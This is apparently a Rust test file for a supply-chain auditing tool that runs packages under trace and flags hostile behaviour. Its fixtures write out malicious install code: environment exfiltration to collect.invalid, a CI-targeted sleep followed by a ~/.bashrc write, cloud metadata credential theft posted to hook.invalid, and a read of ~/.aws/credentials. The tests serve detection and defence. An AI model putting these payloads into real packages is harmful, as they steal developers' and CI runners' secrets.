//! `foretaste audit --trace`: what packages do is part of their verdict.

use serde_json::Value;

use crate::support::Home;

/// Audits a folder with the system's own interpreters.
fn trace(home: &Home, folder: &str, more: &[&str]) -> Value {
    let mut command = home.command(&[&["audit", "--format", "json", "--trace"], more].concat());
    let output = command
        .arg(folder)
        .env("PATH", "/usr/local/bin:/usr/bin:/bin")
        .output()
        .expect("the binary starts");
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    serde_json::from_str(&text)
        .unwrap_or_else(|e| panic!("{e}: {text}{}", String::from_utf8_lossy(&output.stderr)))
}

/// The finding of a rule.
fn finding<'a>(report: &'a Value, rule: &str) -> Option<&'a Value> {
    let findings = report["releases"][0]["findings"].as_array()?;
    findings.iter().find(|finding| finding["rule"] == rule)
}

fn notes(finding: &Value) -> String {
    let evidence = finding["evidence"].as_array().expect("a list");
    let notes: Vec<&str> = evidence.iter().filter_map(|e| e["note"].as_str()).collect();
    notes.join("\n")
}

fn setup(home: &Home, payload: &str) {
    let text = format!(
        "import base64, json, os, time, urllib.request as u\nfrom setuptools import setup\n{payload}\nsetup(name='sample', version='1.0', packages=['sample'])\n"
    );
    home.write("sample/setup.py", text);
    home.write("sample/sample/__init__.py", "");
}

#[test]
fn a_setup_that_sends_the_environment_is_seen_doing_it() {
    let home = Home::new();
    setup(
        &home,
        "try:\n    d = base64.b64encode(json.dumps(dict(os.environ)).encode())\n    u.urlopen(u.Request('https://collect.invalid/c', data=d), timeout=5)\nexcept OSError:\n    pass",
    );
    let report = trace(&home, "sample", &[]);
    assert_eq!(report["releases"][0]["verdict"], "block", "{report}");
    let left = finding(&report, "canary-left").expect("seen");
    assert_eq!(left["context"], "install", "{left}");
    assert!(
        notes(left).contains("github-token sent to collect.invalid (base64)"),
        "{left}"
    );
    assert!(
        notes(left).contains("run as developer and runner"),
        "{left}"
    );
    assert!(finding(&report, "egress-denied").is_some(), "{report}");
    let text = report.to_string();
    assert!(
        !text.contains("ghp_") && !text.contains("AKIA"),
        "a value stands in the report"
    );
}

#[test]
fn what_waits_or_picks_its_victims_is_seen_as_well() {
    let home = Home::new();
    let began = std::time::Instant::now();
    setup(
        &home,
        "if os.environ.get('GITHUB_ACTIONS'):\n    time.sleep(3000)\n    open(os.path.expanduser('~/.bashrc'), 'a').write('true')",
    );
    let report = trace(&home, "sample", &[]);
    assert!(began.elapsed().as_secs() < 300, "the sleep was not skipped");
    let persistence = finding(&report, "persistence").expect("seen");
    assert!(
        notes(persistence).ends_with("run as runner"),
        "{persistence}"
    );
    assert!(finding(&report, "long-sleep").is_some(), "{report}");
}

#[test]
fn a_script_that_steals_the_machines_role_gets_a_planted_one() {
    let home = Home::new();
    home.write(
        "sample/package.json",
        r#"{"name": "sample", "version": "1.0.0", "scripts": {"postinstall": "node steal.js"}}"#,
    );
    home.write("sample/index.js", "");
    home.write(
        "sample/steal.js",
        "const role = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/';\n\
         const get = async (url, o) => (await fetch(url, o)).text();\n\
         get(role).then((name) => get(role + name)).then((body) => get('http://hook.invalid/', {method: 'POST', body})).catch(() => {});\n",
    );
    let report = trace(&home, "sample", &[]);
    assert!(finding(&report, "metadata-service").is_some(), "{report}");
    let left = finding(&report, "canary-left").expect("seen");
    assert!(
        notes(left).contains("aws-secret-access-key sent to hook.invalid"),
        "{left}"
    );
}

#[test]
fn an_import_is_told_from_an_installation_and_a_command_from_both() {
    let home = Home::new();
    home.write(
        "sample/setup.py",
        "from setuptools import setup\nsetup(name='sample', version='1.0', packages=['sample'])\n",
    );
    home.write(
        "sample/sample/__init__.py",
        "import os\nos.path.exists('/x')\ntry:\n    open(os.path.expanduser('~/.aws/credentials')).read()\nexcept OSError:\n    pass\n",
    );
    let report = trace(&home, "sample", &[]);
    let read = finding(&report, "credential-read").expect("seen");
    assert_eq!(read["context"], "import", "{read}");
}

#[test]
fn a_package_that_does_nothing_stays_clear() {
    let home = Home::new();
    home.write(
        "sample/setup.py",
        "from setuptools import setup\nsetup(name='sample', version='1.0', packages=['sample'])\n",
    );
    home.write(
        "sample/sample/__init__.py",
        "def double(x):\n    return 2 * x\n",
    );
    let report = trace(&home, "sample", &["--exercise"]);
    let verdict = report["releases"][0]["verdict"].as_str();
    assert!(
        verdict == Some("clear") || verdict == Some("note"),
        "{report}"
    );
    for rule in [
        "egress-denied",
        "credential-read",
        "canary-left",
        "persistence",
    ] {
        assert!(finding(&report, rule).is_none(), "{rule}: {report}");
    }
    // nothing of the run stays behind, and the package is as it was
    assert!(!home.path().join("sample/build").exists());
    let runs = home.path().join(".local/state/foretaste/runs");
    assert_eq!(std::fs::read_dir(runs).map_or(0, Iterator::count), 0);
}
